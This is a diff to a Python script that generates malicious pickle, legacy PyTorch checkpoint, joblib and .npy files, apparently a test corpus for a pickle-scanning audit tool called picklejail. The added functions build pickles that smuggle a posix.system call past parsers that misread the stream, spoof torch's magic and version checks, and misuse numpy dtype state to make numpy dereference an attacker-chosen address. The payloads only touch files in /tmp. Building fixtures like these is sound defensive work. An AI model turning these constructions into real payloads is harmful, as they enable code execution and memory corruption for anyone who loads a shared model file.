@@ -6,9 +6,11 @@ real loader opens it.  INDEX (kept by hand) names the rule each must raise.
     /usr/bin/python3 corpus/containers/make_attacks.py
 
 Needs Debian's python3-torch (TorchScript and legacy files are made by torch
-itself).  Nothing here loads what it writes.  The payloads run
-`touch /tmp/picklejail-attack-*`.
+itself; those are not byte-stable: torch picks storage keys per run).
+Nothing here loads what it writes.  The payloads run
+`touch /tmp/picklejail-attack-*`, or make numpy dereference 0x4141414141414141.
 """
+import decimal
 import io
 import os
 import pickle
@@ -157,19 +159,172 @@ def checkpoint_long_prefix_short_storage():
                  lambda rel, d: bytes(4) if rel == "data/0" else d)
 
 
-def legacy_no_storage_keys():
-    """A legacy checkpoint whose storage-keys pickle is [] and which holds no
-    storage bytes: torch.load returns the tensor's uninitialised storage."""
-    import torch
-    raw = saved({"w": torch.arange(64.0)}, _use_new_zipfile_serialization=False)
+MAGIC = 0x1950A86A20F9469CFC6C
+
+
+def legacy_pickles(obj):
+    """The five pickles torch.save writes in the legacy format."""
+    raw = saved(obj, _use_new_zipfile_serialization=False)
     f = io.BytesIO(raw)
     parts = []
-    for _ in range(4):
+    for _ in range(5):
         start = f.tell()
         for _op in pickletools.genops(f):
             pass
         parts.append(raw[start:f.tell()])
-    return b"".join(parts) + pickle.dumps([], protocol=2)
+    return parts
+
+
+def legacy_no_storage_keys():
+    """A legacy checkpoint whose storage-keys pickle is [] and which holds no
+    storage bytes: torch.load returns the tensor's uninitialised storage."""
+    import torch
+    p = legacy_pickles({"w": torch.arange(64.0)})
+    return p[0] + p[1] + p[2] + p[3] + pickle.dumps([], protocol=2)
+
+
+def no_storage(header):
+    """header, then the sys-info and object pickles of a real save, an empty
+    storage-keys list and no storage bytes."""
+    import torch
+    p = legacy_pickles({"w": torch.zeros(64), "v": torch.zeros(64)})
+    return header + p[2] + p[3] + pickle.dumps([], protocol=2)
+
+
+def binunicode(text):
+    b = text.encode()
+    return b"X" + struct.pack("<I", len(b)) + b
+
+
+def zero_joblib_wrapper():
+    """Protocol 2 opcodes (no PROTO, no STOP) that build a joblib
+    NumpyArrayWrapper of shape (0,) with no alignment byte (joblib.load reads
+    no array data after it) and pop it."""
+    s = binunicode
+    dtype = (b"cnumpy\ndtype\n" + s("f8") + b"\x89\x88\x87R(K\x03" + s("<") +
+             b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
+    state = (s("subclass") + b"cnumpy\nndarray\n" + s("shape") + b"K\x00\x85" +
+             s("order") + s("C") + s("dtype") + dtype +
+             s("numpy_array_alignment_bytes") + b"N")
+    return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + state + b"ub0"
+
+
+class Call:
+    def __init__(self, f, args):
+        self.f, self.args = f, args
+
+    def __reduce__(self):
+        return (self.f, self.args)
+
+
+def legacy_joblib_magic():
+    """The magic pickle also builds a zero-length joblib wrapper: joblib.load
+    reads that pickle as its own, torch.load as the magic."""
+    return no_storage(b"\x80\x02" + zero_joblib_wrapper() +
+                      pickle.dumps(MAGIC, protocol=2)[2:] + pickle.dumps(1001, protocol=2))
+
+
+def legacy_decimal_magic():
+    """A Decimal magic and the float version 1001.0: torch.load's != takes
+    both for the constants."""
+    return no_storage(pickle.dumps(decimal.Decimal(MAGIC), protocol=2) +
+                      pickle.dumps(1001.0, protocol=2))
+
+
+def legacy_computed_version():
+    """Magic and version both computed by int(): torch.load only compares
+    the values."""
+    return no_storage(pickle.dumps(Call(int, (str(MAGIC),)), protocol=2) +
+                      pickle.dumps(Call(int, ("1001",)), protocol=2))
+
+
+def legacy_joblib_version():
+    """A computed magic, then a version pickle that builds a zero-length
+    joblib wrapper before its 1001: torch.load reads it as pickle.load."""
+    return no_storage(pickle.dumps(decimal.Decimal(MAGIC), protocol=2) +
+                      b"\x80\x02" + zero_joblib_wrapper() + pickle.dumps(1001, protocol=2)[2:])
+
+
+def joblib_build_twice():
+    """A NumpyArrayWrapper built twice: load_build copies the state dict's
+    items at the first BUILD, so joblib keeps shape (100,) although the pickle
+    later sets the memoised dict's shape to (1,); it reads 800 bytes, not 8,
+    before a posix.system call that a reader replaying the dict's final
+    items sees as the bytes of a BINBYTES."""
+    su = binunicode
+    n = 100
+    p = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81q\x00"
+    p += b"}q\x01(" + su("shape") + b"Kd\x85" + su("order") + su("C")
+    p += su("subclass") + b"cnumpy\nndarray\n"
+    p += su("dtype") + b"cnumpy\ndtype\n" + su("f8") + b"\x89\x88\x87R"
+    p += b"(K\x03" + su("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbub"
+    p += b"\x00" * (8 * n)                          # BUILD 1: n float64
+    p += b"0h\x01" + su("shape") + b"K\x01\x85s0"   # D['shape'] = (1,)
+    p += b"h\x00}b"                                 # BUILD 2: joblib reads n again
+    call = b"cposix\nsystem\n(" + su("touch /tmp/picklejail-attack-joblib-build-twice") + b"tR."
+    head = b"\x00" * 8 + b"0B"     # the wrong reading: 8 bytes, POP, BINBYTES
+    body = head + struct.pack("<I", 8 * n + len(call) - 1 - len(head) - 4)
+    body += b"\xee" * (8 * n - len(body))
+    return p + body + call         # that BINBYTES ends at the call's STOP
+
+
+# ---- numpy dtype states: numpy 1.24's dtype.__setstate__ trusts them ------
+
+def bint(i):
+    return b"J" + struct.pack("<i", i)
+
+
+def np_dtype(ts):
+    return b"cnumpy\ndtype\n" + binunicode(ts) + b"\x89\x88\x87R"
+
+
+NP_RECON = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
+# a structured dtype (x: object at 0) with numpy's own object flags
+NP_OBJ_STATE = (b"(K\x03" + binunicode("|") + b"N" + binunicode("x") + b"\x85}" +
+                binunicode("x") + np_dtype("O8") + b"(K\x03" + binunicode("|") + b"NNN" +
+                bint(-1) + bint(-1) + b"K\x3ftb" + b"K\x00\x86s")
+
+
+def numpy_dtype_flags_deny_objects():
+    """One BUILD whose flags deny the object field: numpy fills the array
+    from the file's bytes and dereferences them (0x4141...) on print."""
+    return (b"\x80\x02" + NP_RECON + b"(K\x01K\x01\x85" + np_dtype("V8") + NP_OBJ_STATE +
+            bint(8) + bint(8) + b"K\x00tb" + b"\x89C\x08" + b"\x41" * 8 + b"tb.")
+
+
+def numpy_dtype_second_build():
+    """A V8 array filled from raw bytes, then a second BUILD gives its dtype
+    an object field."""
+    return (b"\x80\x02" + NP_RECON + b"(K\x01K\x01\x85" + np_dtype("V8") + b"q\x05(K\x03" +
+            binunicode("|") + b"NNN" + bint(8) + bint(1) + b"K\x00tb" + b"\x89C\x08" +
+            b"\x41" * 8 + b"tbq\x06h\x05" + NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")
+
+
+def numpy_dtype_build_after_use():
+    """The dtype's only BUILD (with the right flags) comes after an array was
+    filled with it."""
+    return (b"\x80\x02" + np_dtype("V8") + b"q\x050" + NP_RECON + b"(K\x01K\x01\x85h\x05\x89C\x08" +
+            b"\x41" * 8 + b"tbq\x060h\x05" + NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")
+
+
+def numpy_dtype_joblib_second_build():
+    """joblib reads 8 raw bytes for a wrapper's V8 dtype, then a second
+    BUILD gives that dtype an object field."""
+    su = binunicode
+    return (b"\x80\x02" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" +
+            su("subclass") + b"cnumpy\nndarray\n" + su("shape") + b"K\x01\x85" +
+            su("order") + su("C") + su("dtype") + np_dtype("V8") + b"q\x05(K\x03" + su("|") +
+            b"NNN" + bint(8) + bint(1) + b"K\x00tb" + b"ub" + b"\x41" * 8 + b"q\x06h\x05" +
+            NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")
+
+
+def numpy_dtype_in_npy():
+    """The flags-deny pickle as an .npy object array's data: np.load
+    unpickles it (the audit must cover pickles inside containers too)."""
+    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    hdr += " " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + "\n"
+    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() +
+            numpy_dtype_flags_deny_objects())
 
 
 def checkpoint_bytes_key():
@@ -201,7 +356,17 @@ def main():
         "torchscript-long-prefix.pt": torchscript_long_prefix(),
         "torch-long-prefix-short-storage.pt": checkpoint_long_prefix_short_storage(),
         "legacy-no-storage-keys.pt": legacy_no_storage_keys(),
+        "legacy-joblib-magic.pt": legacy_joblib_magic(),
+        "legacy-decimal-magic.pt": legacy_decimal_magic(),
+        "legacy-computed-version.pt": legacy_computed_version(),
+        "legacy-joblib-version.pt": legacy_joblib_version(),
         "torch-bytes-storage-key.pt": checkpoint_bytes_key(),
+        "joblib-build-twice.pkl": joblib_build_twice(),
+        "numpy-dtype-flags-deny-objects.pkl": numpy_dtype_flags_deny_objects(),
+        "numpy-dtype-second-build.pkl": numpy_dtype_second_build(),
+        "numpy-dtype-build-after-use.pkl": numpy_dtype_build_after_use(),
+        "numpy-dtype-joblib-second-build.pkl": numpy_dtype_joblib_second_build(),
+        "numpy-dtype-in-npy.npy": numpy_dtype_in_npy(),
     }
     os.makedirs(OUT, exist_ok=True)
     for name, data in files.items():
